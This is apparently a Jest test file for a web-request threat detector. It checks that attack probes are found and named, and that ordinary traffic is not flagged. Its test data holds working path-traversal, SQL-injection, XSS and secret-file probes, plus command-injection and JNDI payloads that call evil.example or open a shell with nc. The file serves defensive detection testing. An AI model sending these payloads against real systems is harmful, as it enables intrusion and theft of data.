/** Attacks are named by what they are; ordinary traffic is left alone, as far as the figure below says. */
import { describe, expect, test } from '@jest/globals'
import { findThreats, THREATS } from '../../src/refine/threats.ts'
import { createMaker, type Maker } from '../capture/otlp/exports.ts'

const names = (url: string, agent?: string, body?: string): string[] => [
  ...new Set(findThreats(url, agent, body).map(({ name }) => name)),
]

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  path_traversal: [
    '/static/../../../x',
    '/files?name=../../x',
    '/a/..%2f..%2fx',
    '/a/%2e%2e/%2e%2e/x',
    '/a/%252e%252e%252fx',
    '/a/..%5c..%5cx',
    '/a/%c0%ae%c0%ae/x',
    '/download?f=report.pdf%00.png',
    '/fetch?u=file:///x',
  ],
  sql_injection: [
    "/items?id=1'%20OR%20'1'='1",
    "/items?id=1'+or+1=1--",
    '/items?id=1%20UNION%20SELECT%20name,pw%20FROM%20users',
    '/items?id=1;DROP%20TABLE%20users',
    '/items?id=1%20AND%20sleep(5)',
    "/items?id=1;WAITFOR%20DELAY%20'0:0:5'",
    "/login?user=admin'--",
    '/items?id=1+and+1=(select+1+from+information_schema.tables)',
  ],
  command_injection: [
    '/ping?host=1.1.1.1;cat%20/etc/x',
    '/ping?host=1.1.1.1%7Cwget%20http://evil.example/x',
    '/ping?host=$(curl%20evil.example)',
    '/ping?host=`id`',
    '/ping?host=x;whoami',
    '/cgi?x=%26%26%20nc%20-e%20/bin/sh',
    '/cgi?x=a$%7BIFS%7Db',
  ],
  template_injection: [
    '/?q=$%7Bjndi:ldap://evil.example/a%7D',
    '/?q=%7B%7B7*7%7D%7D',
    '/?q=%7B%7B%27%27.__class__%7D%7D',
    '/?q=$%7B7*7%7D',
    '/?q=%3C%25=%207*7%20%25%3E',
  ],
  xss: [
    '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
    '/?next=javascript:alert(1)',
    '/?q=%22%3E%3Csvg/onload=alert(1)%3E',
    '/?q=%27-document.cookie-%27',
  ],
  secret_file: [
    '/.env',
    '/.git/config',
    '/app/.aws/credentials',
    '/?f=/etc/passwd',
    '/wp-config.php',
    '/PhpInfo.php',
    '/web.config',
    '/server-status',
    '/x/id_rsa',
    '/proc/self/environ',
    '/backup.sql',
    '/dump.zip',
    '/database.tar',
    '/DB.bak',
    '/site.tgz',
    '/actuator/env',
  ],
}

test.each(Object.entries(ATTACKS))('%s: each probe is found and named', (name, urls) => {
  for (const url of urls) expect([url, names(url)]).toEqual([url, expect.arrayContaining([name])])
})

const ADDRESS = ['path', 'query']
const KEPT = [...ADDRESS, 'body']
const EVERYWHERE = [...KEPT, 'user_agent']

test.each([
  ['path_traversal', '../../x', ADDRESS],
  ['sql_injection', "1' or '1'='1", KEPT],
  ['command_injection', '$(curl evil.example)', KEPT],
  ['template_injection', `$${'{jndi:ldap://evil.example/a}'}`, EVERYWHERE],
  ['xss', '<script>x</script>', EVERYWHERE],
  ['secret_file', '/.env', ADDRESS],
])('%s is found wherever it can do harm', (name, text, places) => {
  const encoded = encodeURIComponent(text)
  const found = findThreats(`/a/${encoded}?q=${encoded}`, text, text)
  expect(found.filter((one) => one.name === name).map((one) => one.in)).toEqual(expect.arrayContaining(places))
})

test('scanners are known by their user agent, and where an attack was is said', () => {
  expect(findThreats('/', 'sqlmap/1.8#stable (https://sqlmap.org)')).toEqual([{ name: 'scanner', in: 'user_agent' }])
  expect(names('/', 'Mozilla/5.00 (Nikto/2.5.0)')).toEqual(['scanner'])
  expect(names('/', '() { :; }; echo x')).toEqual(['scanner'])
  expect(findThreats('/a?x=../../b', undefined)).toEqual([{ name: 'path_traversal', in: 'query' }])
  expect(findThreats('/', `$${'{jndi:ldap://evil.example/a}'}`)).toEqual([
    { name: 'template_injection', in: 'user_agent' },
  ])
  expect(findThreats('/', undefined, '{"note":"<script>x</script>"}')).toEqual([{ name: 'xss', in: 'body' }])
})

const IN_BODIES = Object.entries(ATTACKS)
  .filter(([name]) => THREATS.some((threat) => threat.name === name && threat.places.includes('body')))
  .flatMap(([name, urls]) =>
    urls.map((url) => [name, `${url.slice(url.indexOf('=') + 1).replaceAll('+', ' ')} #`] as const),
  )

test.each<[string, (text: string) => string]>([
  ['a value', (text) => JSON.stringify({ note: text })],
  ['a key', (text) => JSON.stringify({ a: 1, [text]: 2 })],
  ['a value deep inside', (text) => JSON.stringify({ a: [{ b: [['Ada', `to ${text}`]] }] })],
  ['JSON in JSON', (text) => JSON.stringify({ json: JSON.stringify([text]) })],
  ['a form', (text) => `page=2&q=${encodeURIComponent(text)}`],
  ['text', (text) => text],
])('in a body, each probe is found as %s', (_, toBody) => {
  for (const [name, probe] of IN_BODIES)
    for (const text of [probe, decodeURIComponent(probe)])
      expect([toBody(text), names('/', undefined, toBody(text))]).toEqual([expect.anything(), [name]])
})

const PIECES =
  `' " ) ( ; | && \n \` / /dev/tcp/ \${ $( #{ {{ < <%= = : . - -- # /* * } 7 , > @ $ % _ __class__ constructor union select all ` +
  `from null or AND like sleep BENCHMARK waitfor delay information_schema. xp_cmdshell sqlite_master drop table delete ` +
  `insert into exec xp_ shutdown cat id whoami curl nc -e jndi ifs script iframe onerror img javascript: document. cookie x`

test('whatever a pattern finds has one of its signs', () => {
  const pieces = [...PIECES.split(' '), ' ', '\t', '\u2003']
  const signed = THREATS.flatMap(({ patterns }) => patterns).filter((one) => 'pattern' in one)
  let found = 0
  for (let at = 0; at < 20_000; at++) {
    const maker = createMaker(at)
    const text = Array.from({ length: maker.between(1, 9) }, () => maker.pick(pieces) + maker.pick(['', '', ' '])).join(
      '',
    )
    for (const one of signed) {
      if (!one.pattern.test(text)) continue
      found++
      expect([text, one.test(text)]).toEqual([text, true])
    }
  }
  expect(found).toBeGreaterThan(1_000)
})

test('every threat of the table is proven here', () => {
  expect([...Object.keys(ATTACKS), 'scanner'].sort()).toEqual(THREATS.map(({ name }) => name).sort())
})

describe('ordinary traffic', () => {
  const WORDS =
    `O'Brien rock'n'roll select plan from union drop table lamp sleep 8 hours update order or and script id cat ls curl shell it's "quoted" C++ AT&T 50% <3 a|b name,id (new) $20 user@example.com ../ README.md v1.2..v1.3 {id} [x] #1 100%`.split(
      ' ',
    )
  const AGENTS = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36',
    'curl/8.4.0',
    'python-httpx/0.27.0',
    'Googlebot/2.1 (+http://www.google.com/bot.html)',
    'kube-probe/1.29',
    'PostmanRuntime/7.39.0',
  ]
  const text = (m: Maker): string => Array.from({ length: m.between(1, 6) }, () => m.pick(WORDS)).join(' ')
  const URLS: readonly ((m: Maker) => string)[] = [
    (m) => `/orders/${m.between(1, 9_999)}/items?page=${m.between(1, 9)}&sort=-created_at`,
    (m) => `/search?${new URLSearchParams({ q: text(m), lang: 'de' })}`,
    (m) => `/search?q=${encodeURIComponent(text(m))}`,
    (m) => `/users/${m.hex(8)}-${m.hex(4)}-4${m.hex(3)}-8${m.hex(3)}-${m.hex(12)}/profile`,
    (m) => `/assets/index-${m.hex(8)}.js?v=${m.between(1, 99)}`,
    (m) => `/api/items?filter=${encodeURIComponent(JSON.stringify({ name: m.pick(WORDS), total: { gt: 5 } }))}`,
    (m) => `/odata/Orders?$filter=Name%20eq%20'${m.pick(['Ada', 'Bo'])}'%20and%20Total%20gt%20${m.between(1, 99)}`,
    (m) => `/cb?code=${m.hex(24)}&state=${m.hex(16)}&redirect=https%3A%2F%2Fshop.example%2Fhome%3Fa%3D1`,
    () => '/.well-known/openid-configuration',
    (m) => `/files/${encodeURIComponent(`Report ${m.between(1, 99)} (final).pdf`)}`,
    (m) => `/graphql?query=${encodeURIComponent(`{ orders(first: ${m.between(1, 9)}) { id name } }`)}`,
    (m) => `/products?fields=name|id&tags=a;b;c&price=${m.between(1, 9)}..${m.between(10, 99)}`,
  ]

  test('of 24,000 ordinary requests fewer than one in a thousand is taken for an attack', () => {
    const taken: string[] = []
    for (let at = 0; at < 24_000; at++) {
      const maker = createMaker(at)
      const url = URLS[at % URLS.length]?.(maker) ?? ''
      const found = names(url, maker.pick(AGENTS))
      if (found.length > 0) taken.push(`${found} ${url}`)
    }
    expect(taken.slice(0, taken.length > 23 ? 30 : 0)).toEqual([])
  })
})
